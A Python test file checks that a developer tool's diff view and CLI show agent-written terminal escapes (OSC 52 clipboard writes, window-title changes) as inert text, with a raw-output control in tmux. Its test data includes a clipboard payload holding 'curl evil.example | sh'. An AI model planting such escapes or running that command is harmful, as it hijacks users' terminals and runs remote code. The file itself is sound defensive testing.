"""The Diff view shows the terminal escapes an agent wrote into a file as text,
still coloured as a diff: in the app's rendering (Pilot) and in a real terminal
(tmux), where ``vigil task diff`` and the TUI leave the window title and the
clipboard as they were, while the same bytes printed raw change both."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest
from textual.geometry import Region
from textual.widgets import Static

from tests.cli.agent_escapes import CLIPBOARD, ESC, NOTES, TITLE, task_with_escapes
from tests.code.repos import Repo
from tests.conftest import VigilRunner
from tests.tui.conftest import AppFactory
from tests.tui.test_diff_screen import body, open_diff
from tests.tui.test_terminal import UNSIZED, Pane, started, wait_screen

pytestmark = pytest.mark.slow  # a real loop run, an app, a terminal

SHOWN = f"+clipboard \\x1b]52;c;{CLIPBOARD}\\x07 and title \\x1b]0;{TITLE}\\x07 end"


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return Repo.make(tmp_path / "app", {"README.md": "app\n"})


async def test_the_diff_view_renders_an_agents_escapes_as_coloured_text(
    make_app: AppFactory, home: Path, repo: Repo, vigil: VigilRunner
) -> None:
    task_id = task_with_escapes(home, repo, vigil)
    app = make_app()
    async with app.run_test(size=(160, 40)) as pilot:
        screen = await open_diff(app, pilot, task_id)
        assert SHOWN in body(screen)  # a diff, coloured by its lexer, of the safe text
        widget = screen.query_one("#diff-text", Static)
        strips = widget.render_lines(Region(0, 0, widget.size.width, widget.size.height))
        segments = [segment for strip in strips for segment in strip]
        rendered = "".join(segment.text for segment in segments)
        assert ESC not in rendered
        assert "\x07" not in rendered
        assert SHOWN in rendered.replace("\n", "")
        added = [s for s in segments if "clipboard" in s.text]
        assert added
        assert all(s.style is not None and s.style.color is not None for s in added)
        labels = str(screen.query_one("#diff-title", Static).render())
        assert ESC not in labels


def clipboard_and_title(pane: Pane) -> tuple[str, str]:
    """The pane's title and tmux's newest paste buffer (where OSC 52 lands)."""
    title = pane.tmux("display-message", "-p", "-t", pane.name, "#{pane_title}").strip()
    buffers = pane.tmux("list-buffers", "-F", "#{buffer_sample}")
    return title, buffers


@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
def test_in_a_real_terminal_task_diff_leaves_the_title_and_the_clipboard_alone(
    home: Path, repo: Repo, vigil: VigilRunner, tmp_path: Path
) -> None:
    task_id = task_with_escapes(home, repo, vigil)
    raw = tmp_path / "raw-notes.txt"
    raw.write_text(NOTES)  # the control: the same bytes, printed as they are
    done = tmp_path / "diff.done"
    shell = (
        f"env {UNSIZED} TERM=xterm-256color {sys.executable} -m vigil --home {home} task diff {task_id}; "
        f"touch {done}; read line; cat {raw}; sleep 60"
    )
    with started(tmp_path, "vigil-escapes", 160, 30, f"sh -c '{shell}'") as pane:
        pane.tmux("set-option", "-g", "set-clipboard", "on")  # OSC 52 from the pane fills a buffer
        before = pane.tmux("display-message", "-p", "-t", pane.name, "#{pane_title}").strip()
        wait_screen(pane, lambda s: done.exists() and "end" in s, "the diff")
        screen = pane.screen()
        assert "\\x1b]52;c;" in screen  # shown as text
        assert "\\x1b]0;" in screen
        assert clipboard_and_title(pane) == (before, "")
        assert before != TITLE
        pane.keys("Enter")  # now the raw bytes: the terminal obeys them
        wait_screen(pane, lambda s: s.count("and title") >= 2, "the raw notes")
        title, buffers = clipboard_and_title(pane)
        assert title == TITLE
        assert "curl evil.example | sh" in buffers
